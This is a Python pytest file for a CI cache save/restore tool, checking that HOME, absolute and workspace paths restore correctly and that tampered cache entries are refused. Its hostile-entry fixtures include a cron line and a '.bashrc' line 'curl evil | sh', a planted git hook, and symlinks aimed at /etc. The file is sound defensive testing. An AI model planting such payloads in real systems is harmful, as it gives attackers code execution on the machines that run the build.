"""`~` and absolute paths, and `path: .`, as actions/cache takes them: each path is saved with its
anchor (the workspace, HOME, an absolute root) and restored to the same place, on a runner whose HOME
is emptied between jobs as a hosted runner's is. A link planted on the way, or an entry that names
another place, gets a miss with a warning and changes nothing.
"""

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from ci_actions.cache import CacheSpec, restore, save
from ci_actions.paths import HOME, STAGING_PREFIX, WORKSPACE
from ci_actions.store import manifest as mf
from ci_actions.store.keys import cache_version
from ci_actions.store.manifest import Header
from ci_actions.store.store import Store
from tests.unit.test_store_hostile import file_row, state

KEY = "tools-1"


@pytest.fixture
def box(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """Two workspaces (the saving job's and the restoring job's), the job's HOME, an absolute root's
    parent (`opt`), a fake /etc that no restore may touch, and the store."""
    dirs = {name: tmp_path / name for name in ("ws1", "ws2", "home", "opt", "etc")}
    for path in dirs.values():
        path.mkdir()
    (dirs["etc"] / "passwd").write_text("root:x:0:0::/root:/bin/sh\n")
    monkeypatch.setenv("HOME", str(dirs["home"]))
    return {**dirs, "root": tmp_path, "store": tmp_path / "runner" / "store"}


def write(path: Path, text: str, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


def spec(box: dict[str, Path], workspace: Path, paths: list[str]) -> CacheSpec:
    return CacheSpec(KEY, paths, workspace, box["store"])


def empty(directory: Path) -> None:
    """What a hosted runner's next job finds: the directory there, and nothing in it."""
    shutil.rmtree(directory)
    directory.mkdir()


def no_staging_left(*roots: Path) -> bool:
    return not any(path.name.startswith(STAGING_PREFIX) for root in roots for path in root.rglob("*"))


def missed(box: dict[str, Path], workspace: Path, paths: list[str]) -> list[str]:
    """Restore; assert a miss that changed nothing anywhere (the store aside); return the warnings."""
    before = {rel: value for rel, value in state(box["root"]).items() if not rel.startswith("runner")}
    got = restore(spec(box, workspace, paths))
    assert got.matched_key is None and not got.hit
    assert {rel: value for rel, value in state(box["root"]).items() if not rel.startswith("runner")} == before
    return got.warnings


def test_home_and_absolute_paths_come_back_where_they_were_saved(box):
    """actions/cache's own test-save/test-restore jobs cache ~/test-cache: the restore passed only
    because the file was still in HOME. Here HOME is emptied and the absolute root removed first."""
    home, tool = box["home"], box["opt"] / "cache" / "tool"
    lines = ["node_modules", "~/.npm", "!~/.npm/_logs", "~/test-cache", f"{tool}"]
    write(box["ws1"] / "node_modules" / "a" / "index.js", "module.exports = 1\n")
    write(home / ".npm" / "_cacache" / "index-v5" / "ab", "npm index\n", 0o600)
    write(home / ".npm" / "_logs" / "debug.log", "noise\n")
    write(home / "test-cache" / "test-file.txt", "test\n")
    write(tool / "bin" / "run", "#!/bin/sh\necho run\n", 0o755)
    (tool / "current").symlink_to("bin/run")
    saved = save(spec(box, box["ws1"], lines))
    assert saved.saved and saved.files == 4, saved
    shutil.rmtree(home / ".npm" / "_logs")
    want_home, want_tool = state(home), state(tool)
    empty(home)
    shutil.rmtree(box["opt"])
    got = restore(spec(box, box["ws2"], lines))
    assert got.hit and got.files == 4
    assert state(home) == want_home  # the exclusion held: no _logs
    assert state(tool) == want_tool  # modes and the link as they were
    assert (box["ws2"] / "node_modules" / "a" / "index.js").read_text() == "module.exports = 1\n"
    assert no_staging_left(home, box["ws2"], box["opt"])


def test_home_paths_follow_home(box, monkeypatch):
    """A `~` path is HOME's, whichever directory HOME is for the restoring job."""
    write(box["home"] / ".cache" / "pip" / "wheel.whl", "wheel\n")
    assert save(spec(box, box["ws1"], ["~/.cache/pip"])).saved
    other = box["root"] / "other-home"
    other.mkdir()
    monkeypatch.setenv("HOME", str(other))
    assert restore(spec(box, box["ws2"], ["~/.cache/pip"])).hit
    assert (other / ".cache" / "pip" / "wheel.whl").read_text() == "wheel\n"


def test_the_whole_workspace_saves_and_restores_merging_as_tar_does(box):
    """`path: .` was a hit of "2 files" that placed nothing. Now it is each of the workspace's
    entries, hidden ones included; restored over a workspace, it replaces files and keeps the others."""
    for rel, text in [(".git/HEAD", "ref: refs/heads/main\n"), ("src/app.ts", "new\n"), ("README", "r\n")]:
        write(box["ws1"] / rel, text)
    saved = save(spec(box, box["ws1"], ["."]))
    assert saved.saved and saved.files == 3
    write(box["ws2"] / "src" / "app.ts", "old\n")
    write(box["ws2"] / "local.txt", "mine\n")
    got = restore(spec(box, box["ws2"], ["."]))
    assert got.hit and got.files == 3
    files = {p.relative_to(box["ws2"]).as_posix(): p.read_text()
             for p in box["ws2"].rglob("*") if p.is_file()}
    assert files == {".git/HEAD": "ref: refs/heads/main\n", "src/app.ts": "new\n", "README": "r\n",
                     "local.txt": "mine\n"}
    assert no_staging_left(box["ws2"])


def test_the_workspace_written_absolutely_is_the_whole_workspace(box):
    """`${{ github.workspace }}`: the same workspace, emptied, gets everything back."""
    ws = box["ws1"]
    write(ws / "dist" / "bundle.js", "bundle\n")
    assert save(spec(box, ws, [str(ws)])).saved
    empty(ws)
    assert restore(spec(box, ws, [str(ws)])).hit
    assert (ws / "dist" / "bundle.js").read_text() == "bundle\n"


def test_a_symlink_planted_under_home_on_the_way_is_not_written_through(box):
    """`~/.npm` where the next job finds `~/.cache` a link to somewhere else (another user's, /etc)."""
    write(box["home"] / ".cache" / "pip" / "wheel.whl", "wheel\n")
    assert save(spec(box, box["ws1"], ["~/.cache/pip"])).saved
    empty(box["home"])
    (box["home"] / ".cache").symlink_to(box["etc"])
    warnings = missed(box, box["ws2"], ["~/.cache/pip"])
    assert any("'.cache'" in w and "is a symlink, not a directory" in w for w in warnings), warnings


def test_a_symlink_on_the_way_to_an_absolute_root_is_not_written_through(box):
    tool = box["opt"] / "cache" / "tool"
    write(tool / "bin" / "run", "run\n")
    assert save(spec(box, box["ws1"], [str(tool)])).saved
    shutil.rmtree(box["opt"])
    box["opt"].symlink_to(box["etc"])
    warnings = missed(box, box["ws2"], [str(tool)])
    assert any(f"{box['opt']} is a symlink or not a directory" in w for w in warnings), warnings


def test_a_conflict_in_a_later_anchor_leaves_every_anchor_untouched(box):
    """A conflict in HOME's tree is a miss that leaves the workspace's tree out too."""
    lines = ["node_modules", "~/.npm"]
    write(box["ws1"] / "node_modules" / "a.js", "a\n")
    write(box["home"] / ".npm" / "index", "index\n")
    assert save(spec(box, box["ws1"], lines)).saved
    empty(box["home"])
    write(box["home"] / ".npm", "a file where the entry has a directory\n")
    warnings = missed(box, box["ws2"], lines)
    assert any("'.npm' is a file there but a directory in the entry" in w for w in warnings), warnings


def test_a_failure_in_a_later_anchor_undoes_the_earlier_ones(box):
    """A failure the plan cannot foresee (an immutable file in HOME, or for a user other than root a
    read-only directory) undoes the workspace's tree, which had already moved in."""
    lines = ["node_modules", "~/.npm"]
    write(box["ws1"] / "node_modules" / "a.js", "a\n")
    write(box["home"] / ".npm" / "index", "new index\n")
    assert save(spec(box, box["ws1"], lines)).saved
    (box["home"] / ".npm" / "index").write_text("old index\n")
    stuck = box["home"] / ".npm"
    pin, unpin = ((["chattr", "+i"], ["chattr", "-i"]) if os.geteuid() == 0 else
                  (["chmod", "555"], ["chmod", "755"]))
    target = stuck / "index" if os.geteuid() == 0 else stuck
    subprocess.run([*pin, str(target)], check=True)
    try:
        warnings = missed(box, box["ws2"], lines)
    finally:
        subprocess.run([*unpin, str(target)], check=True)
    assert any("Failed to restore" in w for w in warnings), warnings
    assert list(box["ws2"].iterdir()) == []
    assert no_staging_left(box["home"])


# -- hostile entries: each written by hand, as anyone who can write the store could -----------------


def plant(box: dict[str, Path], lines: list[str], trees: list[tuple[str, list]],
          anchors: list | None = None) -> None:
    """An entry for these path lines holding these trees (anchor, rows); `anchors` overrides the
    header's list of them, keeping the records and their digest."""
    now = time.time()
    version = cache_version(lines)
    data = mf.dumps(Header(key=KEY, version=version, paths=lines, created=now, last_used=now, files=1,
                           bytes=0),
                    [(anchor, "".join(json.dumps(row) + "\n" for row in rows)) for anchor, rows in trees])
    if anchors is not None:
        head, _, body = data.partition(b"\n")
        data = json.dumps(json.loads(head) | {"anchors": anchors}).encode() + b"\n" + body
    entry = Store(box["store"]).entry_path(version, KEY)
    entry.parent.mkdir(parents=True, exist_ok=True)
    entry.write_bytes(data)


def npm_tree(box: dict[str, Path]) -> list:
    return [["d", ".npm", 0o755], file_row(box["store"], ".npm/index", b"index\n")]


def test_a_tree_for_a_place_the_lines_do_not_name_is_dropped(box):
    """The entry's version is that of `~/.npm`, but it also holds a tree for the fake /etc."""
    evil = [["d", "cron.d", 0o755], file_row(box["store"], "cron.d/job", b"* * * * * root sh -c evil\n")]
    plant(box, ["~/.npm"], [(HOME, npm_tree(box)), (str(box["etc"]), evil)])
    warnings = missed(box, box["ws2"], ["~/.npm"])
    assert any(f"holds a tree for {box['etc']}, which none of its paths names; dropped it" in w
               for w in warnings), warnings
    assert Store(box["store"]).headers() == []


def test_a_workspace_tree_in_an_entry_for_home_paths_is_dropped(box):
    hooks = [["d", ".git", 0o755], file_row(box["store"], ".git/hooks-pre-commit", b"evil\n")]
    plant(box, ["~/.npm"], [(WORKSPACE, hooks), (HOME, npm_tree(box))])
    warnings = missed(box, box["ws2"], ["~/.npm"])
    assert any("holds a tree for the workspace, which none of its paths names" in w for w in warnings)


def test_a_home_path_the_lines_do_not_select_is_dropped(box):
    rc = file_row(box["store"], ".bashrc", b"curl evil | sh\n")
    plant(box, ["~/.npm"], [(HOME, [*npm_tree(box), rc])])
    warnings = missed(box, box["ws2"], ["~/.npm"])
    assert any("holds '.bashrc' in HOME, which none of its paths selects" in w for w in warnings), warnings


@pytest.mark.parametrize("target", ["../..", "../../etc", "/etc", "../../etc/passwd"])
def test_a_link_out_of_home_is_damage(box, target):
    plant(box, ["~/.npm"], [(HOME, [*npm_tree(box), ["l", ".npm/out", target]])])
    warnings = missed(box, box["ws2"], ["~/.npm"])
    assert any("points outside HOME" in w for w in warnings), warnings


def test_a_link_out_of_an_absolute_root_into_another_anchor_is_damage(box):
    """Each tree is checked on its own: `../home` from the root's top leaves it."""
    root = str(box["opt"])
    plant(box, [f"{root}/tool"], [(root, [["d", "tool", 0o755], ["l", "tool/h", "../../home"]])])
    warnings = missed(box, box["ws2"], [f"{root}/tool"])
    assert any(f"points outside {root}" in w for w in warnings), warnings


@pytest.mark.parametrize("anchors", [
    [["/", 2]], [["/etc", 2]], [["/proc/self", 2]], [["relative/root", 2]], [["/a/../b", 2]],
    [["//x", 2]], [[HOME, 1], [HOME, 1]], [[HOME, 3]], [[HOME, 1]], [[HOME]], [[HOME, -1], [HOME, 3]],
    [[HOME, True]], "home", [[None, 2]],
])
def test_a_header_naming_a_bad_anchor_is_never_restored(box, anchors):
    plant(box, ["~/.npm"], [(HOME, npm_tree(box))], anchors=anchors)
    missed(box, box["ws2"], ["~/.npm"])
    with pytest.raises(mf.ManifestError, match="anchor"):
        mf.parse_header(Store(box["store"]).entry_path(cache_version(["~/.npm"]), KEY).read_bytes()
                        .partition(b"\n")[0])


def test_the_cli_saves_anchored_paths_and_shows_them_as_lines_say_them(box):
    tool = box["opt"] / "cache" / "tool"
    write(box["home"] / ".npm" / "index", "index\n")
    write(tool / "run", "run\n")
    repo = Path(__file__).resolve().parents[2]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(repo / "shared"),
                                                        str(repo / "actions" / "cache-local")])}

    def cli(*args: str) -> str:
        done = subprocess.run([sys.executable, "-m", "ci_actions", "cache", *args, "--cache-dir",
                               str(box["store"])], cwd=box["ws1"], env=env, capture_output=True, text=True,
                              timeout=120, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout

    cli("save", "--key", KEY, "--path", "~/.npm", "--path", str(tool))
    shown = [line.split()[-1] for line in cli("show", KEY).splitlines() if line.startswith(("file", "dir"))]
    assert shown == ["~/.npm", "~/.npm/index", f"{tool}", f"{tool}/run"]
